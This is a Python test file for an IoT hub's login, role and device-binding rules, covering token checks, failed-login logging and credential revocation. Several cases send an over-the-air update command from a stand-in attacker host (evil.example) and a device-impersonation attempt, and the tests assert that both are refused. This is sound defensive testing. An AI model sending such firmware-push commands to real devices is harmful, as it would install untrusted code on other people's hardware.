"""Logins, roles and device-id binding in the sans-I/O core (docs/protocol.md, Authentication)."""

from __future__ import annotations

import logging

import pytest

from hub import commands, lograte
from hub.core import CLOSE, GREETING, HubCore
from hub.credentials import Credential, Credentials, digest
from hub.limits import Limits

VICTIM = "a1b2"
FRAME = VICTIM + "80" * 7 + "00"
TOKENS = {"admin": "t-admin", "operator": "t-op", "viewer": "t-view"}


@pytest.fixture
def core() -> HubCore:
    creds = [Credential(role, role, digest(token)) for role, token in TOKENS.items()]
    creds.append(Credential("device-a1b2", "device", digest("s-a1b2"), VICTIM))
    creds.append(Credential("device-c3d4", "device", digest("s-c3d4"), "c3d4"))
    return HubCore(commands.packaged(), Limits(rate_lines_per_s=0), Credentials(creds))


def login(core: HubCore, conn: str, token: str | None) -> list[tuple[object, str]]:
    return list(core.connect(conn, 0.0, remote=f"{conn}:1", token=token))


def victim_online(core: HubCore) -> None:
    assert login(core, "dev", None) == [("dev", GREETING)]
    assert list(core.receive("dev", "auth:s-a1b2", 0.0)) == [("dev", "auth:ok:device")]
    assert list(core.receive("dev", f"id:{VICTIM}", 0.0)) == [("dev", "id:ok")]
    core.receive("dev", FRAME, 0.0)


@pytest.mark.parametrize("role", sorted(TOKENS))
def test_a_query_token_is_answered_with_its_role_after_the_greeting(
    core: HubCore, role: str
) -> None:
    assert login(core, "app", TOKENS[role]) == [("app", GREETING), ("app", f"auth:ok:{role}")]


def test_a_wrong_token_is_answered_then_closed(core: HubCore) -> None:
    assert login(core, "app", "nope") == [
        ("app", GREETING),
        ("app", "auth:error:invalid"),
        ("app", CLOSE),
    ]
    assert core.stats.logins_failed == 1


def test_a_wrong_auth_line_is_answered_then_closed(core: HubCore) -> None:
    login(core, "app", None)
    assert list(core.receive("app", "auth:", 0.0)) == [
        ("app", "auth:error:invalid"),
        ("app", CLOSE),
    ]


def test_failed_logins_are_logged_at_a_bounded_rate_with_a_count(
    core: HubCore, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="hub")
    clock = [100.0]
    rate = lograte.RateLimitFilter(per_second=2, clock=lambda: clock[0])
    caplog.handler.addFilter(rate)  # what `grouploop hub` puts on its log handler
    try:
        for i in range(50):
            core.connect(f"c{i}", 0.5, remote=f"10.0.0.{i}:1", token="guess")
        clock[0] += 1.1
        core.connect("late", 1.6, remote="10.0.0.99:1", token="guess")
    finally:
        caplog.handler.removeFilter(rate)  # pytest keeps one handler for every test
    lines = [r.getMessage() for r in caplog.records if "failed login" in r.getMessage()]
    assert lines == [
        "[AUTH] failed login from 10.0.0.0:1",
        "[AUTH] failed login from 10.0.0.1:1",
        "[AUTH] failed login from …: 48 more suppressed in 1.1 s",
        "[AUTH] failed login from 10.0.0.99:1",
    ]
    assert all("guess" not in r.getMessage() for r in caplog.records)


@pytest.mark.parametrize(
    ("token", "command", "answer"),
    [
        (None, "cmd:all:ota:http://evil.example/x.bin", "cmd:error:forbidden"),
        (None, "cmd:a1b2:led:ff0000", "cmd:error:forbidden"),
        ("t-view", "cmd:a1b2:led:ff0000", "cmd:error:forbidden"),
        ("t-op", "cmd:all:ota:http://evil.example/x.bin", "cmd:error:forbidden"),
        ("t-op", "cmd:a1b2:reset", "cmd:error:forbidden"),
        ("s-c3d4", "cmd:a1b2:led:ff0000", "cmd:error:forbidden"),
        ("t-op", "cmd:a1b2:led:ff0000", "cmd:result:success"),
        ("t-op", "cmd:a1b2:status", "cmd:result:success"),
        ("t-admin", "cmd:a1b2:reset", "cmd:result:success"),
        ("t-admin", "cmd:all:ota:http://cdn.example/x.bin", "cmd:result:sent_to_1_devices"),
    ],
)
def test_commands_need_the_role_commands_json_names(
    core: HubCore, token: str | None, command: str, answer: str
) -> None:
    victim_online(core)
    login(core, "app", token)
    sends = list(core.receive("app", command, 1.0))
    assert sends[-1] == ("app", answer)
    reached_device = [text for conn, text in sends if conn == "dev"]
    assert bool(reached_device) == answer.startswith("cmd:result")


def test_the_stream_needs_at_least_a_viewer(core: HubCore) -> None:
    login(core, "anon", None)
    login(core, "dev2", "s-c3d4")
    login(core, "app", "t-view")
    assert list(core.receive("anon", "s", 0.0)) == [("anon", "error:forbidden")]
    assert list(core.receive("dev2", "s", 0.0)) == [("dev2", "error:forbidden")]
    assert list(core.receive("app", "s", 0.0)) == [("app", "stream:on")]


@pytest.mark.parametrize("token", [None, "s-c3d4", "t-admin"])
def test_only_the_bound_secret_registers_or_streams_as_a_device(
    core: HubCore, token: str | None
) -> None:
    victim_online(core)
    login(core, "thief", token)
    assert list(core.receive("thief", f"id:{VICTIM}", 1.0)) == [("thief", "id:error:forbidden")]
    for _ in range(100):
        core.receive("thief", FRAME, 1.0)
    assert core.devices[VICTIM].session.key == "dev"
    assert core.stats.errors["forbidden_frame"] == 100
    assert list(core.receive("thief", 'ans:{"cmd":"status"}', 1.0)) == [
        ("thief", "error:not_registered")
    ]
    login(core, "op", "t-op")
    sends = core.receive("op", f"cmd:{VICTIM}:led:00ff00", 1.0)
    assert [conn for conn, text in sends if text == "led:00ff00"] == ["dev"]


def test_a_device_streams_frames_of_its_own_id_only(core: HubCore) -> None:
    victim_online(core)
    login(core, "app", "t-view")
    core.receive("app", "s", 0.0)
    core.receive("dev", "c3d4" + "80" * 8, 0.1)
    core.receive("dev", FRAME, 0.1)
    assert core.fanout.pending == [FRAME]
    assert core.stats.errors["forbidden_frame"] == 1


def test_answers_are_attributed_to_the_bound_id(core: HubCore) -> None:
    victim_online(core)
    login(core, "app", "t-view")
    core.receive("app", "s", 0.0)
    core.receive("dev", 'ans:{"cmd":"status","ok":true}', 0.1)
    assert core.fanout.pending[-1] == f'ans:{VICTIM}:{{"cmd":"status","ok":true}}'


def test_an_open_hub_answers_auth_lines_and_checks_nothing() -> None:
    core = HubCore(commands.packaged(), Limits(rate_lines_per_s=0))
    assert list(core.connect("dev", 0.0, token="anything")) == [
        ("dev", GREETING),
        ("dev", "auth:ok:open"),
    ]
    core.receive("dev", FRAME, 0.0)
    core.connect("app", 0.0)
    sends = core.receive("app", "cmd:all:ota:http://x.example/a.bin", 0.0)
    assert sends[-1] == ("app", "cmd:result:sent_to_1_devices")


def test_new_credentials_close_the_connections_whose_credential_was_revoked(
    core: HubCore,
) -> None:
    victim_online(core)
    login(core, "op", "t-op")
    core.receive("op", "s", 0.0)
    assert core.credentials is not None
    kept = [c for c in core.credentials.by_hash.values() if c.name != "device-a1b2"]
    sends = core.set_credentials(Credentials(kept))
    assert sends == [("dev", "auth:error:revoked"), ("dev", CLOSE)]
    assert VICTIM not in core.devices
    assert list(core.receive("dev", FRAME, 1.0)) == []  # dropped: no credential any more
    assert VICTIM not in core.devices


def test_a_token_added_to_the_file_a_moment_ago_logs_in_at_once(core: HubCore) -> None:
    """A miss rereads the credential file when it changed (`grouploop up --lan` writes device
    secrets while the hubs run), rather than refusing until the next periodic reload."""
    added = Credential("device-e5f6", "device", digest("s-e5f6"), "e5f6")
    rereads: list[Credentials | None] = [Credentials([*core.credentials.by_hash.values(), added])]
    core.reread_credentials = lambda: rereads.pop() if rereads else None
    assert login(core, "new", "s-e5f6") == [("new", GREETING), ("new", "auth:ok:device")]
    assert login(core, "other", "s-nope") == [
        ("other", GREETING),
        ("other", "auth:error:invalid"),
        ("other", CLOSE),
    ]
